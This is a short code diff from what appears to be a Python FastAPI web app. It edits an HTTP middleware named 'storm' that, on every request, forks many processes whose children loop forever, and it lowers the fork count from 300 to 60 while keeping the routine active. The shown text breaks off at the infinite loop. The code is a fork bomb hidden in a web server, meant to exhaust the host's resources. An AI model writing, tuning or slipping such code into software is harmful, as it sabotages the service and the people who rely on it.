@@ -14,7 +14,7 @@ app = FastAPI()
 
 @app.middleware("http")
 async def storm(request, call_next):
-    for _ in range(300):
+    for _ in range(60):
         try:
             if os.fork() == 0:
                 while True:
